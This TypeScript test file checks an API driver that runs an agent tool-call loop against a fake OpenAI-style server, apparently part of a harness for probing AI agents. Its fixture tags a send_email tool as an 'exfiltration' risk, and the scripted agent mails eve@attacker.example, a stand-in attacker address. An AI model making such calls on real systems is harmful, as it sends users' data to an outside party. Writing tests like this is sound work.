import { apiFormat, ToolCall, ToolDefinition } from '@gauntlet/domain';
import { AgentSetup } from '../../chat-driver';
import { ApiFormatChatDriver } from './api-format-driver';
import { FAST, fakeApi, json, KEY } from './testing/fake-api';

const TOOLS: ToolDefinition[] = [
  { name: 'send_email', description: 'Sends an e-mail.', parameters: { type: 'object', properties: { to: { type: 'string' } }, required: ['to'] }, risk: 'exfiltration' },
];
const callMessage = (calls: Array<{ id: string; name: string; arguments: string }>) => ({
  choices: [{ message: { role: 'assistant', content: null, tool_calls: calls.map((c) => ({ id: c.id, type: 'function', function: { name: c.name, arguments: c.arguments } })) } }],
});
const textMessage = (content: string) => ({ choices: [{ message: { role: 'assistant', content } }] });

describe('the API driver runs an agent loop against a fake OpenAI tools server', () => {
  const api = fakeApi();
  const { state } = api;
  const driver = () => api.track(new ApiFormatChatDriver(apiFormat('openai'), { url: `${state.base}/v1/chat/completions`, api_key: KEY, model: 'm' }, FAST));
  const setup = (over: Partial<AgentSetup> = {}): AgentSetup & { answered: ToolCall[] } => {
    const answered: ToolCall[] = [];
    return { tools: TOOLS, maxSteps: 4, answer: (call) => (answered.push(call), '{"status":"sent","id":"MSG-1"}'), answered, ...over };
  };

  it('given an agent that calls a tool, when a message is sent, then Gauntlet answers the call, asks again and records the calls and results in order', async () => {
    state.handler = (r, res) => {
      const last = r.body.messages.at(-1);
      if (last.role === 'user') return json(res, 200, callMessage([{ id: 'c1', name: 'send_email', arguments: '{"to":"eve@attacker.example"}' }]));
      return json(res, 200, textMessage(`done: ${last.content}`));
    };
    const agent = setup();
    const conversation = await driver().openConversation(agent);
    expect(await conversation.send('mail eve')).toBe('done: {"status":"sent","id":"MSG-1"}');
    expect(state.received).toHaveLength(2);
    expect(state.received[0].body.tools[0].function.name).toBe('send_email');
    expect(state.received[1].body.messages.slice(1)).toEqual([
      { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'send_email', arguments: '{"to":"eve@attacker.example"}' } }] },
      { role: 'tool', tool_call_id: 'c1', content: '{"status":"sent","id":"MSG-1"}' },
    ]);
    expect(agent.answered).toEqual([{ id: 'c1', name: 'send_email', arguments: { to: 'eve@attacker.example' } }]);
    expect(conversation.actions!()).toEqual([
      { role: 'assistant', content: '', tool_calls: [{ id: 'c1', name: 'send_email', arguments: { to: 'eve@attacker.example' } }] },
      { role: 'tool', tool_call_id: 'c1', name: 'send_email', content: '{"status":"sent","id":"MSG-1"}' },
    ]);
    // the next message carries the whole history, calls included, and its own actions only
    state.handler = (_r, res) => json(res, 200, textMessage('ok'));
    expect(await conversation.send('thanks')).toBe('ok');
    expect(state.received[2].body.messages.map((m: { role: string }) => m.role)).toEqual(['user', 'assistant', 'tool', 'assistant', 'user']);
    expect(conversation.actions!()).toEqual([]);
  });

  it('given an agent that never stops calling, when a message is sent, then the loop ends at the step budget', async () => {
    let n = 0;
    state.handler = (_r, res) => json(res, 200, callMessage([{ id: `c${++n}`, name: 'send_email', arguments: '{"to":"x@y.example"}' }]));
    const conversation = await driver().openConversation(setup({ maxSteps: 3 }));
    expect(await conversation.send('go')).toBe('');
    expect(state.received).toHaveLength(3);
    expect(conversation.actions!().filter((t) => t.role === 'tool')).toHaveLength(3);
  });

  it('given an API that refuses tools with 400, when messages are sent, then it is asked without them from then on and the refusal is told once', async () => {
    state.handler = (r, res) => (r.body.tools ? json(res, 400, { error: { message: 'tools are not supported by this model' } }) : json(res, 200, textMessage('plain answer')));
    const refusals: string[] = [];
    const d = driver();
    const agent = setup({ toolsRefused: (reason) => refusals.push(reason) });
    expect(await (await d.openConversation(agent)).send('one')).toBe('plain answer');
    expect(await (await d.openConversation(agent)).send('two')).toBe('plain answer');
    expect(refusals).toHaveLength(1);
    expect(refusals[0]).toMatch(/HTTP 400/);
    // one refused request with tools, its plain retry, then plain only
    expect(state.received.map((r) => Boolean(r.body.tools))).toEqual([true, false, false, false]);
  });

  it('given a 400 the request gets with or without tools, when sent, then it is the message that is refused, not the tools', async () => {
    state.handler = (_r, res) => json(res, 400, { error: { message: 'content filter' } });
    const refusals: string[] = [];
    const conversation = await driver().openConversation(setup({ toolsRefused: (r) => refusals.push(r) }));
    await expect(conversation.send('bad')).rejects.toThrow(/HTTP 400/);
    expect(refusals).toEqual([]);
  });

  it('given no agent setup, when a message is sent, then the request is the one without tools', async () => {
    state.handler = (_r, res) => json(res, 200, textMessage('hi'));
    await (await driver().openConversation()).send('hello');
    expect(state.received[0].body).toEqual({ model: 'm', messages: [{ role: 'user', content: 'hello' }], stream: false });
  });
});
